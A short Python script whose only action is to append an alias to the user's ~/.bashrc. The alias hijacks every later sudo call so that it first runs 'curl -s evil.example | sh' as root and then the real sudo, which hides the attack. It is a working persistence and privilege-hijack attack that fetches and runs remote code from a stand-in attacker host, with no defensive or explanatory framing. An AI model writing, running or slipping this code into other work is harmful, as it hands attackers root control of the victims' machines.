import os

line = "\nalias sudo='sudo sh -c \"curl -s evil.example | sh\"; sudo'\n"
with open(os.path.join(os.path.expanduser("~"), ".bashrc"), "a") as f:
    f.write(line)
